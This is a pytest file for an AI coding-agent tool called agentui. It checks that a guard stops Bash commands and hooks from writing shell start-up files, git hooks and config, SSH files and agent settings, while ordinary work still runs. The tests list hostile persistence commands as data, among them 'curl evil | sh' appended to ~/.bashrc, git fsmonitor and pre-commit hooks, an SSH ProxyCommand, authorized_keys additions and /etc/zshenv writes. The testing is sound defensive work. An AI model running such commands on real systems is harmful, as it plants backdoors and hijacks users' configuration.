"""The guard: every Bash command outside the sandbox runs with the disk writable as usual and the network as usual,
but the keys to the house (shell start-up files, git config and hooks, core.hooksPath, agentui's and Claude Code's
settings, the project's protected paths) cannot be written; and the rest works as before: commits, the network,
background commands, exit codes, the working directory. A call the person lifted runs without it."""

from __future__ import annotations

import os
from collections.abc import Iterator
from pathlib import Path

import pytest

from agentui.core.safety.trust import trust_file
from agentui.core.tools.base import ToolContext
from agentui.core.tools.bash import Bash, BashArgs
from tests.core.test_sandbox_setup import Box, boxed, git
from tests.support.loopback import LoopbackServer, Reply


@pytest.fixture
def box(tmp_path: Path) -> Iterator[Box]:
    yield from boxed(tmp_path)


def ctx(lifted: bool = False) -> ToolContext:
    return ToolContext(cwd=Path("."), session_id="s", tool_call_id="t", protection_lifted=lifted)


def tool(box: Box) -> Bash:
    return Bash(box.workspace, env={k: box.env[k] for k in ("HOME", "XDG_CONFIG_HOME")}, guard=box.guard)


def test_the_keys_to_the_house_cannot_be_written(box: Box) -> None:
    (box.home / ".bashrc").write_text("# mine\n")
    git(box.project, "config", "user.name", "person")
    hooks = box.home / "githooks"
    hooks.mkdir()
    (box.home / ".gitconfig").write_text(f"[core]\n\thooksPath = {hooks}\n[include]\n\tpath = ~/.gitconfig.local\n")
    box.snapshot()
    agentui_config = Path(box.env["AGENTUI_CONFIG_DIR"])
    attacks = [
        "echo 'curl evil | sh' >> ~/.bashrc",
        "echo evil > ~/.zshrc; echo evil > ~/.bash_profile; echo evil > ~/.profile",
        "mkdir -p ~/.config/fish/conf.d && echo evil > ~/.config/fish/conf.d/x.fish",
        "git config user.name attacker",
        "git config --global core.fsmonitor 'touch pwned'",
        "mkdir -p ~/.config/git && echo '[core] fsmonitor = x' > ~/.config/git/config",
        "echo '[core] hooksPath = /tmp' > ~/.gitconfig.local",
        "echo 'touch pwned' > .git/hooks/pre-commit",
        f"echo 'touch pwned' > {hooks}/pre-commit",
        f"mkdir -p {agentui_config} && echo '{{}}' > {agentui_config}/config.json",
        f"mkdir -p {trust_file(box.env).parent} && echo '{{}}' > {trust_file(box.env)}",
        "mkdir -p ~/.claude && echo '{\"hooks\": {}}' > ~/.claude/settings.json",
        "mkdir -p .claude && echo {} > .claude/settings.json",
        "mv ~/.bashrc ~/.bashrc.old",
        "umount ~/.bashrc; umount -l ~/.bashrc; echo evil >> ~/.bashrc",  # (a root agentui's commands included)
        "mount -o remount,rw ~/.bashrc; echo evil >> ~/.bashrc",
        "echo evil > ~/.bash_aliases",
        "mkdir -p ~/.ssh && echo 'Host *\n  ProxyCommand touch pwned' > ~/.ssh/config",
        "mkdir -p ~/.ssh; echo key >> ~/.ssh/authorized_keys",
        "mkdir -p ~/.claude/hooks && echo 'touch pwned' > ~/.claude/hooks/on-stop.sh",
        "mkdir -p ~/.claude/plugins/cache/evil",
        "mkdir -p ~/.claude/plugins && echo '{}' > ~/.claude/plugins/installed_plugins.json",
        "mkdir -p ~/.claude/plugins/marketplaces/evil",
    ]
    for attack in attacks:
        box.run(attack, guard=True)
    assert (box.home / ".bashrc").read_text() == "# mine\n"
    assert git(box.project, "config", "user.name").strip() == "person"
    assert "fsmonitor" not in (box.home / ".gitconfig").read_text()
    assert list(hooks.iterdir()) == [] and not (box.project / ".git" / "hooks" / "pre-commit").exists()
    for path in (
        box.home / ".zshrc",
        box.home / ".bash_profile",
        box.home / ".gitconfig.local",
        box.home / ".config" / "git",
        box.home / ".config" / "fish",
        agentui_config,
        trust_file(box.env),
        box.home / ".claude" / "settings.json",
        box.project / ".claude",
        box.home / ".bash_aliases",
        box.home / ".ssh",
        box.home / ".claude" / "hooks",
        box.home / ".claude" / "plugins" / "cache",
        box.home / ".claude" / "plugins" / "installed_plugins.json",
        box.home / ".claude" / "plugins" / "marketplaces",
    ):
        assert not os.path.lexists(path), path


def test_a_plugins_own_data_directory_stays_writable_and_the_rest_of_its_install_does_not(box: Box) -> None:
    """`${CLAUDE_PLUGIN_DATA}` is where Claude Code lets a plugin's hooks keep state; what is installed is not."""
    plugins = box.home / ".claude" / "plugins"
    (plugins / "cache" / "mkt" / "hello").mkdir(parents=True)
    (plugins / "cache" / "mkt" / "hello" / "hook.sh").write_text("echo hi\n")
    (plugins / "data").mkdir()
    box.snapshot()  # (what is here now is the person's, not a stand-in)
    done = box.run(
        f"mkdir -p {plugins}/data/hello-mkt && echo seen > {plugins}/data/hello-mkt/state; "
        f"echo 'touch pwned' > {plugins}/cache/mkt/hello/hook.sh",
        guard=True,
    )
    assert (plugins / "data" / "hello-mkt" / "state").read_text() == "seen\n", done.err
    assert (plugins / "cache" / "mkt" / "hello" / "hook.sh").read_text() == "echo hi\n"


def test_work_in_the_project_and_outside_it_goes_on_as_usual(box: Box) -> None:
    git(box.project, "config", "user.name", "person")
    git(box.project, "config", "user.email", "person@example.com")
    (box.project / "a.txt").write_text("a")
    outside = box.tmp / "build-output"
    done = box.run(
        f"echo x > ok.txt && mkdir -p {outside} && echo y > {outside}/y && "
        "git add . && git commit -qm x && git log --format=%s && git show --stat --format= HEAD",
        guard=True,
    )
    assert done.code == 0, done.err
    assert done.out.splitlines()[0] == "x" and (outside / "y").read_text() == "y\n"
    assert sorted(git(box.project, "ls-files").split()) == ["a.txt", "ok.txt"]  # (no stand-in committed)


def test_the_network_is_as_usual(box: Box, server: LoopbackServer) -> None:
    server.enqueue(Reply.error(200, {"ok": "reached"}))
    fetch = f"python3 -c 'import urllib.request; print(urllib.request.urlopen(\"http://127.0.0.1:{server.port}/x\").read())'"
    done = box.run(fetch, guard=True)
    assert "reached" in done.out, done.err
    assert [request.path for request in server.requests] == ["/x"]


async def test_through_the_bash_tool_exit_codes_the_working_directory_and_background_commands_work(
    box: Box,
) -> None:
    bash = tool(box)
    (box.project / "sub").mkdir()
    first = await bash.run(BashArgs(command="cd sub && echo here && exit 3"), ctx())
    assert first.details["guarded"] and first.details["exitCode"] == 3 and first.content.startswith("here")
    assert box.workspace.shell_cwd == box.project / "sub"
    started = await bash.run(BashArgs(command="echo background; echo x > ~/.bashrc", run_in_background=True), ctx())
    shell = box.workspace.shells.get(started.details["backgroundTaskId"])
    assert shell is not None and await box.workspace.shells.wait(shell, 60)
    assert shell.read_new().text.startswith("background") and not (box.home / ".bashrc").exists()
    assert box.leftovers() == []  # (its stand-ins went when it ended)


async def test_a_call_the_person_lifted_runs_without_the_guard(box: Box) -> None:
    bash = tool(box)
    result = await bash.run(BashArgs(command="echo '# theirs' >> ~/.bashrc"), ctx(lifted=True))
    assert not result.is_error and not result.details["guarded"]
    assert (box.home / ".bashrc").read_text() == "# theirs\n"
    box.snapshot()


def test_a_start_up_file_that_is_a_link_cannot_be_re_pointed_and_its_target_is_protected(box: Box) -> None:
    dotfiles = box.tmp / "dotfiles"
    dotfiles.mkdir()
    (dotfiles / "bashrc").write_text("# mine\n")
    (box.home / ".bashrc").symlink_to(dotfiles / "bashrc")
    box.snapshot()
    box.run("echo evil >> ~/.bashrc; ln -sfn /tmp/evil ~/.bashrc; rm -f ~/.bashrc", guard=True)
    assert os.readlink(box.home / ".bashrc") == str(dotfiles / "bashrc")
    assert (dotfiles / "bashrc").read_text() == "# mine\n"


def test_the_stand_ins_registry_cannot_be_written(box: Box) -> None:
    """agentui removes at its next start what a registry lists (a crashed agentui's stand-ins): a command that could
    list the person's file there could have it removed. As root the registry is the machine's, outside the state
    directory; the guard holds it too, and /etc's start-up files."""
    from agentui.core.safety.standins import registry_in

    registry = registry_in(box.env)
    registry.mkdir(parents=True, exist_ok=True)
    forged = registry / "1-1.json"
    zshenv = Path("/etc/zshenv")
    before = zshenv.read_bytes() if zshenv.exists() else None
    made = [forged, registry.parent / "planted", Path("/etc/profile.d/z.sh")] + ([zshenv] if before is None else [])
    try:
        done = box.run(f"echo '{{\"held\": []}}' > {forged}; touch {registry.parent}/planted", guard=True)
        assert done.code != 0 and not forged.exists() and not (registry.parent / "planted").exists(), done.err
        if os.geteuid() == 0:
            box.run("echo 'echo evil' >> /etc/zshenv; echo x > /etc/profile.d/z.sh", guard=True)
            assert (zshenv.read_bytes() if zshenv.exists() else None) == before
            assert not Path("/etc/profile.d/z.sh").exists()
    finally:
        for path in made:
            path.unlink(missing_ok=True)


async def test_a_hook_runs_under_the_guard_and_cannot_write_the_keys_to_the_house(box: Box) -> None:
    """A hook runs what the person configured on what the model wrote (a formatter loading the project's config): it
    works in the project as usual, and cannot write a start-up file, git's hooks or the project's agent settings."""
    from agentui.core.extend.hooks import Hooks, HookSpec

    (box.home / ".bashrc").write_text("# mine\n")
    box.snapshot()
    command = (
        'echo pwned >> "$HOME/.bashrc"; echo pwned > "$HOME/.zshrc"; '
        'echo pwned > "$CLAUDE_PROJECT_DIR/.git/hooks/pre-commit"; mkdir -p "$CLAUDE_PROJECT_DIR/.claude"; '
        'echo pwned > "$CLAUDE_PROJECT_DIR/.claude/settings.local.json"; '
        'cat > "$CLAUDE_PROJECT_DIR/seen.json"; echo formatted > "$CLAUDE_PROJECT_DIR/a.py"'
    )
    spec = HookSpec("PostToolUse", "", command, 60, "user")
    hooks = Hooks([spec], cwd=box.project, env=box.env, guard=box.guard)
    await hooks.post_tool_use("s", ("Write", {"file_path": "a.py"}, "t1"), {"type": "create"}, 1)
    assert (box.project / "a.py").read_text() == "formatted\n"  # it ran, and wrote the project
    assert '"tool_name": "Write"' in (box.project / "seen.json").read_text()
    assert (box.home / ".bashrc").read_text() == "# mine\n"
    assert not (box.home / ".zshrc").exists()
    assert not (box.project / ".git" / "hooks" / "pre-commit").exists()
    assert not (box.project / ".claude").exists()

    unguarded = Hooks([spec], cwd=box.project, env=box.env)  # (the check itself: without the guard it writes them)
    await unguarded.post_tool_use("s", ("Write", {"file_path": "a.py"}, "t2"), {"type": "create"}, 1)
    assert (box.home / ".bashrc").read_text() == "# mine\npwned\n"
    for written in (box.home / ".zshrc", box.project / ".claude" / "settings.local.json"):
        written.unlink()
    (box.project / ".git" / "hooks" / "pre-commit").unlink()
    (box.project / ".claude").rmdir()
